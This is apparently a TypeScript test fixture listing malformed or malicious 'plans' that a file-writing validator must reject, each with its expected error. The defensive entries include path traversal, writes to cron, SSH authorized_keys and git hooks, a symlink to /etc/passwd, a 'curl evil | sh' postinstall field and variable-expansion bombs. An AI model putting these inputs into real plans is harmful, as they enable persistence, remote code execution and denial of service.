type PlanValue = Record<string, unknown>;

/** A plan that has nothing wrong with it. */
export const GOOD_PLAN = {
  summary: 'A counter that counts',
  files: [
    { path: 'README.md', content: '# Counter\n' },
    {
      path: 'package.json',
      content: '{ "name": "counter", "type": "module", "scripts": { "test": "node --test" } }\n',
    },
    { path: 'src/count.js', content: 'export const next = (count) => count + 1;\n' },
  ],
  run: ['npm test'],
  assumptions: ['It counts upwards.'],
};

/** A text that refers to one which refers to another, forty times each: three steps make 12 million characters. */
const GROWING = {
  one: 'x'.repeat(200),
  two: '{{one}}'.repeat(40),
  three: '{{two}}'.repeat(40),
  four: '{{three}}'.repeat(30),
};
const MANY = Object.fromEntries(
  Array.from({ length: 5_000 }, (_, index) => [`v${index + 1}`, `{{v${index}}}`]),
);
const withFiles = (...files: unknown[]): PlanValue => ({ ...GOOD_PLAN, files });
const file = (path: string, content = 'x') => ({ path, content });

/** Plans that cannot be written, as a model hands them in, each with what it must be told. A text is sent as it is. */
export const FAULTY_PLANS: [what: string, plan: unknown, told: RegExp][] = [
  ['bad JSON', '{"summary": "x", "files": [', /JSON/],
  ['no object', '[1, 2]', /JSON|object|record/],
  ['no files', withFiles(), /files/],
  ['files that are no list', { ...GOOD_PLAN, files: 'src/main.ts' }, /files/],
  ['a file without content', withFiles({ path: 'a.txt' }), /files\.0\.content/],
  ['a content that is no text', withFiles({ path: 'a.json', content: { a: 1 } }), /files\.0\.content/],
  ['a path that climbs', withFiles(file('../evil.txt')), /"\.\.\/evil\.txt".*climbs/],
  ['a path that climbs in the middle', withFiles(file('src/../../evil.txt')), /climbs/],
  ['an absolute path', withFiles(file('/etc/cron.d/evil')), /absolute/],
  ['a drive of Windows', withFiles(file('C:/evil.txt')), /drive/],
  ['a home folder', withFiles(file('~/.ssh/authorized_keys')), /home/],
  ['a backslash', withFiles(file('src\\..\\..\\evil.txt')), /climbs|backslash/],
  ['a percent-encoded path', withFiles(file('%2e%2e/evil.txt')), /percent-encoded/],
  ['the same path twice', withFiles(file('a.txt'), file('a.txt', 'y')), /"a\.txt".*twice/],
  ['names that differ in case only', withFiles(file('Readme.md'), file('README.md')), /collides/],
  ['a file where a folder is', withFiles(file('src/main.ts'), file('src')), /folder/],
  ['a folder where a file is', withFiles(file('src'), file('src/main.ts')), /needs a folder/],
  ['the repository of git', withFiles(file('.git/hooks/post-checkout')), /"\.git" is made by a program/],
  ['installed packages', withFiles(file('node_modules/x/index.js')), /node_modules/],
  ['a device of Windows', withFiles(file('aux.txt')), /device/],
  ['a name that the workspace keeps', withFiles(file('.tertulia-history/x')), /tertulia/],
  ['a control character', withFiles(file('a\u0007b.txt')), /control/],
  ['a name that ends with a dot', withFiles(file('src./a.txt')), /dot/],
  ['variables in a circle', { ...GOOD_PLAN, variables: { one: '{{two}}', two: '{{one}}' } }, /circle/],
  ['variables that make each other grow', { ...GOOD_PLAN, variables: GROWING }, /two: has more than/],
  ['thousands of variables', { ...GOOD_PLAN, variables: MANY }, /variables.*at most 100/],
  [
    'a file that its placeholders make huge',
    { ...withFiles(file('a.txt', '{{text}}'.repeat(20_000))), variables: { text: 'x'.repeat(250) } },
    /1 MiB together with the values/,
  ],
  [
    'a variable that leads outside',
    { ...withFiles(file('{{out}}/evil.txt')), variables: { out: '..' } },
    /climbs/,
  ],
  ['a link', withFiles({ path: 'passwd', link_to: '/etc/passwd' }), /content|link_to/],
  ['an empty folder that climbs', { ...GOOD_PLAN, folders: ['../../tmp'] }, /climbs/],
  ['an unknown field', { ...GOOD_PLAN, postinstall: 'curl evil | sh' }, /postinstall/],
  ['a summary of two lines', { ...GOOD_PLAN, summary: 'a\nb' }, /summary.*one line/],
  [
    '10,000 files',
    withFiles(...Array.from({ length: 10_000 }, (_, index) => file(`f${index}.txt`))),
    /files.*200/,
  ],
  [
    'more folders than it may have',
    withFiles(...Array.from({ length: 150 }, (_, index) => file(`a${index}/b${index}/c.txt`))),
    /with their folders, the most is 200/,
  ],
  ['a path that is too deep', withFiles(file(`${'d/'.repeat(40)}a.txt`)), /deeper than 12/],
  ['a file that is too large', withFiles(file('a.txt', 'x'.repeat(300_000))), /files\.0\.content|256/],
  [
    'files that are too large together',
    withFiles(...Array.from({ length: 6 }, (_, index) => file(`f${index}.txt`, 'x'.repeat(200_000)))),
    /together/,
  ],
];
